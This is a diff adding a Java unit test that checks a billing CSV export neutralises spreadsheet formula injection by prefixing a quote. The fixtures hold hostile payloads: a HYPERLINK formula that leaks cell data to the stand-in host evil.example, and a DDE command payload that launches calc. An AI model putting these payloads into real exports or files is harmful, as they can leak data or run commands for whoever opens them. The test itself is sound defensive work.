@@ -139,6 +139,32 @@ class ComputeBillsTest extends ApiEtlStandIns {
   }
 
   @Test
+  void cellsASpreadsheetWouldReadAsFormulasAreNeutralisedWithAQuote() throws Exception {
+    platform.stubFor(post(urlPathEqualTo("/api")).withRequestBody(matchingJsonPath("$.variables.name", equalTo("omega")))
+        .willReturn(aResponse().withHeader("Content-Type", "application/json")
+            .withBody("{\"data\": {\"group\": {\"organization\": \"evil\"}}}")));
+    String[][] authors = {{"=HYPERLINK(\"http://evil.example/?\"&A1,\"Pay\")", "h"}, {"+1+1", "p"}, {"-2+3", "m"},
+        {"@SUM(A1:A9)", "s"}, {"\tTabbed", "t"}, {"\rReturn", "r"}, {"'quoted", "q"}, {"Plain = fine", "f"}};
+    for (int i = 0; i < authors.length; i++) {
+      commit("omega", i == 0 ? "=cmd|' /C calc'!A0" : "repo", "o" + i, "fa-o" + i, authors[i][0], authors[i][1] + "@x.com",
+          "2026-11-0" + (1 + i) + "T10:00:00Z");
+    }
+
+    CliRun.Result r = CliRun.run(env(), clock, "etl", "compute-bills");
+
+    assertThat(r.code()).as(r.err() + r.logs()).isZero();
+    assertThat(file("continuous-data/bills/2026/11/omega.csv")).isEqualTo("actor,commit,groups,repository\r\n"
+        + "'\tTabbed <t@x.com>,o4,omega,repo\r\n"
+        + "\"'\rReturn <r@x.com>\",o5,omega,repo\r\n"
+        + "''quoted <q@x.com>,o6,omega,repo\r\n"
+        + "'+1+1 <p@x.com>,o1,omega,repo\r\n"
+        + "'-2+3 <m@x.com>,o2,omega,repo\r\n"
+        + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Pay\"\") <h@x.com>\",o0,omega,'=cmd|' /C calc'!A0\r\n"
+        + "'@SUM(A1:A9) <s@x.com>,o3,omega,repo\r\n"
+        + "Plain = fine <f@x.com>,o7,omega,repo\r\n");
+  }
+
+  @Test
   void aPastMonthIsBilledWithoutADayCopyAndARerunIsTheSame() throws Exception {
     CliRun.Result first = CliRun.run(env(), clock, "etl", "compute-bills", "--month", "2026-10");
     String before = file("continuous-data/bills/2026/10/gamma.csv");
